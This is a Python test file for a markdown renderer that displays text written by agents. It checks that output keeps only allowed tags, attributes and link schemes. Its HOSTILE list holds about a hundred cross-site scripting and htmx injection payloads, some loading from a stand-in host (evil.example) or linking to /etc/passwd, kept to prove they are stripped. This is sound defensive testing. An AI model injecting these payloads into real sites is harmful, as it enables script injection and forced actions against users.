"""Markdown from agents: readable, and never executable."""

import time
from html.parser import HTMLParser

import pytest

from opensink_web.web.rendering import markdown
from opensink_web.web.rendering.markdown import PAGE_LENGTH, Budget, render
from tests.support.cases import for_each

ALLOWED_TAGS = {
    *("p", "br", "hr", "h3", "h4", "h5", "h6", "blockquote", "pre", "code"),
    *("em", "strong", "s", "a", "ul", "ol", "li"),
    *("table", "thead", "tbody", "tr", "th", "td"),
    "span",  # a mark in place of a character that nobody sees
}
ALLOWED_ATTRIBUTES = {"href", "title", "target", "rel", "start", "align", "class", "data-codes"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=position:fixed;inset:0>over everything</div>",
    "<form action=/sign-out method=post><button>Click</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onfocus=alert(1) autofocus></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<x-dialog onclick=alert(1)>x</x-dialog>",
    "<div hx-post=/api/v1/agents hx-trigger=load></div>",
    "<div hx-get=/ hx-trigger='load' hx-swap=outerHTML>x</div>",
    "<div data-hx-delete='/agents/1' data-hx-trigger='load'>x</div>",
    "<button hx-post='/inbox/1/resolve' hx-vals='{\"approved\":true}'>Read more</button>",
    "<a hx-boost=true href=/sign-out>x</a>",
    "<div hx-on:click='alert(1)'>x</div>",
    "<div hx-on--load='alert(1)'>x</div>",
    "<div hx-ext=sse sse-connect=//evil.example/>",
    "<div data-copy-target='#secret' data-confirm>x</div>",
    "<div id=main class=modal>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,%3Csvg/onload=alert(1)%3E)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](/sign-out)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](?redirect=1)",
    "[x](#main)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://a.example/"onmouseover=alert`1`)',
    "[x](<https://a.example/' hx-get='/>)",
    "![x](https://tracker.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](x)',
    "![![<script>alert(1)</script>](x)](y)",
    "[![x](https://tracker.example/p.png)](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>][r]\n\n[r]: x",
    '```html" onmouseover="alert(1)\nx\n```',
    "```<script>alert(1)</script>\n<script>alert(2)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|<img src=x onerror=alert(1)>|\n|:-:|\n|<script>alert(1)</script>|",
    "# <script>alert(1)</script>",
    "> <iframe src=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<\x00script>alert(1)</script>",
    "\u2028<img src=x onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]


class _Reader(HTMLParser):
    """Collects what a browser would find in the HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.text = ""
        self.feed(str(html))  # a Markup would escape what it is joined with
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        self.links.extend(value or "" for name, value in attrs if name == "href")

    def handle_data(self, data: str) -> None:
        self.text += data


def test_nothing_hostile_comes_through() -> None:
    def check(text: str) -> None:
        found = _Reader(render(text))

        assert found.tags <= ALLOWED_TAGS
        assert found.attributes <= ALLOWED_ATTRIBUTES
        for link in found.links:
            assert link.lower().startswith(("http://", "https://", "mailto:"))

    for_each(HOSTILE, check)


def test_nothing_hostile_comes_through_inside_other_markdown() -> None:
    def check(text: str) -> None:
        found = _Reader(render(f"# Plan\n\n- one **{text}**\n\n> {text}\n\nend"))

        assert found.tags <= ALLOWED_TAGS
        assert found.attributes <= ALLOWED_ATTRIBUTES

    for_each(HOSTILE, check)


def test_there_are_enough_payloads_and_none_twice() -> None:
    assert len(HOSTILE) == len(set(HOSTILE)) >= 60


def test_raw_html_is_shown_as_the_text_it_is() -> None:
    assert _Reader(render("a <b>c</b>")).text.strip() == "a <b>c</b>"


def test_an_image_becomes_its_alternative_text() -> None:
    assert render("![a *red* chart](https://x.example/c.png)") == "<p>a red chart</p>\n"


def test_alternative_text_is_escaped() -> None:
    assert render("![`<b>`](x)") == "<p>&lt;b&gt;</p>\n"


def test_links_open_apart_and_tell_nothing() -> None:
    html = render("[x](https://a.example)")

    assert 'target="_blank" rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize("address", ["http://a.example", "HTTPS://a.example", "mailto:a@b.example"])
def test_a_link_to_elsewhere_stays(address: str) -> None:
    assert _Reader(render(f"[x]({address})")).links == [address]


def test_headings_leave_the_first_two_levels_to_the_page() -> None:
    tags = _Reader(render("# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f")).tags

    assert tags == {"h3", "h4", "h5", "h6"}


def test_headings_begin_at_the_third_level_and_leave_none_out() -> None:
    assert render("## a\n\n#### b\n") == "<h3>a</h3>\n<h4>b</h4>\n"


def test_a_table_keeps_its_alignment_without_style() -> None:
    html = render("|item|price|\n|-|-:|\n|tea|3|")

    assert '<td align="right">3</td>' in html
    assert "style" not in html


def test_everyday_markdown_reads_as_meant() -> None:
    html = render("**b** *i* ~~s~~ `c`\n\n3. x\n\n- y\n\n> q\n\n---\n\n```py\nz\n```")

    assert _Reader(html).tags == {
        *("p", "strong", "em", "s", "code", "ol", "ul", "li", "blockquote", "hr", "pre"),
    }
    assert '<ol start="3">' in html


def test_an_empty_text_is_an_empty_text() -> None:
    assert render("") == ""


def test_a_text_that_is_too_long_is_shown_as_it_is() -> None:
    html = render("*<b>*" + "x" * PAGE_LENGTH)

    assert "<pre>*&lt;b&gt;*xxx" in html
    assert "Shown without formatting because it is very long." in html
    assert _Reader(html).tags == {"p", "pre"}


SLOW = (
    *("[", "![", "![[", "*a ", "*a_ ", "_a_", "*a**b***c", "a**b_", "<", "a](", "[a](<b", "~~a "),
    *(">", "- ", "- a\n", "1. a\n", "# a\n", "|a|b|\n|-|-|\n|a|b|\n", "`" * 7 + " ", "`a"),
)
"""What costs the parser most, repeated."""


@pytest.mark.parametrize("piece", SLOW)
def test_no_text_keeps_the_server_busy_for_long(piece: str) -> None:
    text = (piece * PAGE_LENGTH)[:PAGE_LENGTH]
    started = time.process_time()

    render(text)

    assert time.process_time() - started < 3


def test_a_page_formats_so_much_and_shows_the_rest_as_it_is() -> None:
    budget = Budget()
    half = ("*a* " * PAGE_LENGTH)[: PAGE_LENGTH // 2]

    first, second, third, short = (budget.render(text) for text in (half, half, half, "*b*"))

    assert "<em>" in first
    assert "<em>" in second
    assert "because it is very long" in third
    assert "because this page is very long" in short
    assert "<em>" not in third + short


def test_what_was_formatted_is_kept_and_not_formatted_again(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    text = "a **word** of its own, kept by its hash " * 50
    before = render(text)

    monkeypatch.setattr(markdown, "_parser", None)

    assert render(text) == before


@pytest.mark.parametrize(("limit", "number"), [("KEPT_LENGTH", 100), ("KEPT_TEXTS", 3)])
def test_what_is_kept_is_bounded(limit: str, number: int, monkeypatch: pytest.MonkeyPatch) -> None:
    kept = markdown._Kept()
    monkeypatch.setattr(markdown, limit, number)

    for number in range(10):
        kept.put(bytes([number]), render("x" * 22))  # 30 with its tags

    held = [number for number in range(10) if kept.get(bytes([number])) is not None]
    assert held == [7, 8, 9]


@pytest.mark.parametrize(
    "text",
    [
        *("EUR \u202e01", "`EUR \u202e01`", "    EUR \u202e01", "```\nEUR \u202e01\n```"),
        *("[EUR \u202e01](https://a.example)", "![EUR \u202e01](x)", "# EUR \u202e01", "&#x202e;"),
        *("|a|\n|-|\n|\u202e|", "<https://a.example/\u202e>", '[x](https://a.example "\u202e")'),
    ],
)
def test_hidden_characters_are_marked_wherever_they_stand(text: str) -> None:
    html = render(text)

    assert "\u202e" not in html
    assert "U+202E" in html


@pytest.mark.parametrize("hidden", ["\u202e", "\u200b", "\u2066", "\xad"])
def test_no_address_has_a_hidden_character(hidden: str) -> None:
    texts = [f"[x](https://a.example/{hidden}b)", f"<https://a.example/{hidden}>"]
    html = render("\n\n".join([*texts, f"[x](https://a{hidden}b.example/)"]))
    links = _Reader(html).links
    assert len(links) >= 2
    assert all(map(str.isascii, links))


def test_what_is_too_long_to_format_is_marked_too() -> None:
    assert "U+202E" in render("\u202e" + "x" * PAGE_LENGTH)


def test_nobody_can_write_a_mark() -> None:
    html = render('<span class="hidden-char" title="x" data-codes="41">U+202E</span>')

    assert "span" not in _Reader(html).tags
